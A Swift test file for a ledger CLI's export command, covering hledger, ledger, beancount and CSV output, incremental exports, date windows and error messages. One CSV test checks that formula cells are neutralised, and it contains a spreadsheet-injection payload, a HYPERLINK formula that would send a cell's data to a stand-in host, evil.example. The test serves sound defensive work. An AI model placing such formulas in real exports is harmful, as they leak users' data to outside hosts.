import Foundation
import LedgerTestSupport
import Testing

@Suite("export")
struct ExportCommandTests {
    static let checking = Fixture.repositoryRoot.appendingPathComponent("samples/checking.csv").path
    static let savings = Fixture.repositoryRoot.appendingPathComponent("samples/savings.csv").path

    @Test("exporting the same ledger again gives the same bytes, in every format")
    func byteIdentical() throws {
        let cli = try ExportSamples.ledger()
        for format in ["hledger", "ledger", "beancount", "csv"] {
            #expect(cli.run("export", "--to", format) == 0, "\(cli.errors)")
            let first = cli.output
            #expect(cli.run("export", "--to", format) == 0)
            #expect(cli.output == first, "\(format)")
            #expect(first.count > 1000)
        }
    }

    @Test("a counter-account set by hand or by a rule is the row's other posting; a bad one stops the export first")
    func counterAccountFromRules() throws {
        let cli = try CLIHarness()
        #expect(cli.run("import", Self.checking, "--account", "Checking", "--currency", "USD") == 0, "\(cli.errors)")
        #expect(cli.run("transactions", "--search", "Coffee Corner", "--limit", "1", "--json") == 0)
        let row = try #require((try cli.json() as? [[String: Any]])?.first)
        let id = try #require(row["id"] as? Int)
        #expect(cli.run("transactions", "edit", String(id), "--counter-account", "Expenses:Food:Coffee") == 0)
        // Once as the row's posting (beancount also opens it).
        for (format, uses) in [("hledger", 1), ("beancount", 2), ("csv", 1)] {
            #expect(cli.run("export", "--to", format) == 0, "\(format): \(cli.errors)")
            #expect(cli.output.components(separatedBy: "Expenses:Food:Coffee").count == uses + 1, "\(format)")
        }
        if let beanCheck = ExternalTool.find("bean-check") {
            #expect(cli.run("export", "--to", "beancount") == 0)
            let file = try cli.write("coffee.beancount", cli.output)
            let result = try ExternalTool.run(beanCheck, [file])
            #expect(result.status == 0, "\(result.output)")
        }
        #expect(cli.run("transactions", "edit", String(id), "--counter-account", "expenses:coffee shop") == 0)
        #expect(cli.run("export", "--to", "beancount") == 1)
        #expect(cli.output.isEmpty, "nothing written before the check")
        #expect(cli.errors.contains("expenses:coffee shop"), "\(cli.errors)")
        #expect(cli.errors.contains("a counter-account set by a rule or `transactions edit`"), "\(cli.errors)")
        #expect(cli.run("export", "--to", "hledger") == 0, "hledger reads lower case and spaces: \(cli.errors)")
    }

    @Test("--since-last writes only what was stored since the last export of that name")
    func sinceLast() throws {
        let cli = try CLIHarness()
        #expect(cli.run("import", Self.checking, "--account", "Checking", "--currency", "USD") == 0, "\(cli.errors)")
        #expect(cli.run("export", "--to", "hledger", "--since-last", "books") == 0, "\(cli.errors)")
        let first = cli.output
        #expect(first.contains("Coffee Corner"))
        #expect(cli.run("export", "--to", "hledger", "--since-last", "books") == 0)
        #expect(!cli.output.contains("lp-id"), "nothing new: \(cli.output)")
        #expect(cli.run("import", Self.savings, "--account", "Savings", "--currency", "USD") == 0, "\(cli.errors)")
        #expect(cli.run("export", "--to", "hledger", "--since-last", "books") == 0)
        let second = cli.output
        #expect(!second.contains("Coffee Corner"))
        #expect(second.contains("Assets:Bank:Savings"))
        // Another name starts from the beginning.
        #expect(cli.run("export", "--to", "hledger", "--since-last", "other") == 0)
        #expect(cli.output.contains("Coffee Corner") && cli.output.contains("Assets:Bank:Savings"))
        // The two parts together are what one export writes, and hledger accepts them.
        if let hledger = ExternalTool.find("hledger") {
            let joined = try cli.write("joined.journal", first + second)
            let result = try ExternalTool.run(hledger, ["-f", joined, "check"])
            #expect(result.status == 0, "\(result.output)")
        }
    }

    @Test("beancount parts written with --since-last open each account once, and bean-check accepts them joined")
    func sinceLastBeancount() throws {
        let cli = try CLIHarness()
        #expect(cli.run("import", Self.checking, "--account", "Checking", "--currency", "USD") == 0)
        #expect(cli.run("export", "--to", "beancount", "--since-last", "bean") == 0, "\(cli.errors)")
        let first = cli.output
        #expect(cli.run("import", Self.savings, "--account", "Savings", "--currency", "USD") == 0)
        #expect(cli.run("export", "--to", "beancount", "--since-last", "bean") == 0)
        let second = cli.output
        #expect(second.contains("open Assets:Bank:Savings"))
        #expect(!second.contains("open Assets:Bank:Checking"))
        #expect(!second.contains("open Expenses:Unknown"))
        if let beanCheck = ExternalTool.find("bean-check") {
            let joined = try cli.write("joined.beancount", first + second)
            let result = try ExternalTool.run(beanCheck, [joined])
            #expect(result.status == 0 && result.output.isEmpty, "\(result.output)")
        }
        #expect(cli.run("export", "--to", "hledger", "--since-last", "bean") == 1)
        #expect(cli.errors.contains("the export \"bean\" was written as beancount; expected --to beancount"))
    }

    @Test("-o writes the file whole and says what it wrote; --json says it for machines")
    func outputFile() throws {
        let cli = try CLIHarness()
        #expect(cli.run("import", Self.checking, "--account", "Checking", "--currency", "USD") == 0)
        let path = cli.folder.appendingPathComponent("books.journal").path
        #expect(cli.run("export", "--to", "ledger", "-o", path) == 0, "\(cli.errors)")
        #expect(cli.output.hasPrefix("wrote "))
        #expect(cli.output.contains("to \(path)"))
        #expect(cli.run("export", "--to", "ledger") == 0)
        #expect(try String(contentsOfFile: path, encoding: .utf8) == cli.output)
        #expect(cli.run("export", "--to", "csv", "-o", path, "--json") == 0)
        let json = try #require(try cli.json() as? [String: Any])
        #expect(json["format"] as? String == "csv")
        #expect((json["transactions"] as? Int ?? 0) > 0)
    }

    @Test("--from and a second --to DAY keep the days between, with an opening balance carried in")
    func window() throws {
        let cli = try CLIHarness()
        #expect(cli.run("import", Self.checking, "--account", "Checking", "--currency", "USD") == 0)
        #expect(
            cli.run("export", "--to", "hledger", "--from", "2024-03-04", "--to", "2024-03-10") == 0, "\(cli.errors)")
        #expect(cli.output.contains("2024-03-04 * Opening balance"))
        #expect(!cli.output.contains("2024-03-02 "))
        #expect(!cli.output.contains("2024-03-11 "))
        if let hledger = ExternalTool.find("hledger") {
            let file = try cli.write("window.journal", cli.output)
            let result = try ExternalTool.run(hledger, ["-f", file, "check"])
            #expect(result.status == 0, "\(result.output)")
        }
    }

    @Test("--pending omit leaves pending rows out; by default they are flagged !")
    func pending() throws {
        let cli = try CLIHarness()
        let feed = Fixture.repositoryRoot.appendingPathComponent("samples/feed").path
        #expect(cli.run("sync", feed) == 0, "\(cli.errors)")
        #expect(cli.run("transactions", "--json") == 0)
        let rows = try #require(try cli.json() as? [[String: Any]])
        let pending = rows.filter { $0["status"] as? String == "pending" }.count
        try #require(pending > 0, "the feed sample has pending rows")
        #expect(cli.run("export", "--to", "hledger") == 0)
        #expect(cli.output.components(separatedBy: " ! ").count - 1 == pending)
        #expect(cli.run("export", "--to", "hledger", "--pending", "omit") == 0)
        #expect(!cli.output.contains(" ! "))
        #expect(cli.run("export", "--to", "beancount") == 0)
        #expect(cli.output.components(separatedBy: " ! ").count - 1 == pending)
    }

    @Test("CSV cells a spreadsheet would run as formulas start with ', and amounts are bare numbers")
    func csvFormulas() throws {
        let cli = try CLIHarness()
        let file = Fixture.url("Export/formulas.csv").path
        #expect(cli.run("import", file, "--account", "Checking", "--currency", "EUR") == 0, "\(cli.errors)")
        #expect(cli.run("export", "--to", "csv") == 0, "\(cli.errors)")
        let lines = cli.output.split(separator: "\n").map(String.init)
        #expect(
            lines.first
                == "id,booking_day,transaction_day,amount,currency,account,journal_account,counter_account,category,payee,description,memo,status,external_id,source_file,source_line,source_column,transfer"
        )
        #expect(lines.count == 6)
        #expect(
            cli.output.contains(#","'=HYPERLINK(""http://evil.example/?x=""&A1)","#)
                || cli.output.contains(#"'=HYPERLINK("#))
        #expect(cli.output.contains(",'+49 30 1234,"))
        #expect(cli.output.contains(",'-minus start,"))
        #expect(cli.output.contains(",'@SUM(A1:A9),"))
        #expect(cli.output.contains(#","Comma, and ""quotes""","#))
        #expect(cli.output.contains(",-1.00,EUR,Checking,Assets:Bank:Checking,Expenses:Unknown,"))
        #expect(cli.output.contains(",5.00,EUR,"))
    }

    @Test("accounts set --journal-name names the account in every export, through export.json")
    func journalName() throws {
        let cli = try CLIHarness()
        #expect(cli.run("import", Self.checking, "--account", "Checking", "--currency", "USD") == 0)
        #expect(cli.run("accounts", "set", "Checking", "--journal-name", "Assets:Chase:Checking") == 0, "\(cli.errors)")
        #expect(cli.output.contains("named \"Checking\" Assets:Chase:Checking in exported journals"))
        let config = cli.folder.appendingPathComponent(".config/ledgerport/export.json").path
        #expect(try String(contentsOfFile: config, encoding: .utf8).contains(#""Checking": "Assets:Chase:Checking""#))
        #expect(cli.run("export", "--to", "hledger") == 0)
        #expect(cli.output.contains("    Assets:Chase:Checking "))
        #expect(!cli.output.contains("Assets:Bank:Checking"))
        #expect(cli.run("accounts", "set", "Checking", "--journal-name", "assets:chase") == 0)
        #expect(cli.output.contains("note: beancount won't read it"))
        #expect(cli.run("export", "--to", "beancount") == 1)
        #expect(cli.errors.contains("journal account \"assets:chase\" can't be written for beancount"))
        #expect(cli.run("accounts", "set", "Checking", "--journal-name", "") == 0)
        #expect(cli.run("export", "--to", "beancount") == 0)
        #expect(cli.output.contains("Assets:Bank:Checking"))
        #expect(cli.run("accounts", "set", "Checking", "--journal-name", "Assets:Bank  Two") == 2)
    }

    @Test(
        "usage mistakes exit 2 saying what was expected",
        arguments: [
            (["export"], "export needs --to hledger|ledger|beancount|csv"),
            (["export", "--to", "gnucash"], "--to gnucash is neither a format nor a day"),
            (["export", "--to", "csv", "--to", "ledger"], "--to names two formats"),
            (
                ["export", "--to", "csv", "--from", "2024-03-10", "--to", "2024-03-01"],
                "--to 2024-03-01 is before --from"
            ),
            (["export", "--to", "csv", "--since-last", "x", "--from", "2024-01-01"], "it takes no --from or --to DAY"),
            (["export", "--to", "csv", "--pending", "maybe"], "--pending maybe is not a choice"),
            (["export", "--to", "csv", "--json"], "--json describes the file -o writes"),
        ])
    func usage(arguments: [String], message: String) throws {
        let cli = try CLIHarness()
        #expect(cli.run(arguments) == 2)
        #expect(cli.errors.contains(message), "\(cli.errors)")
    }
}
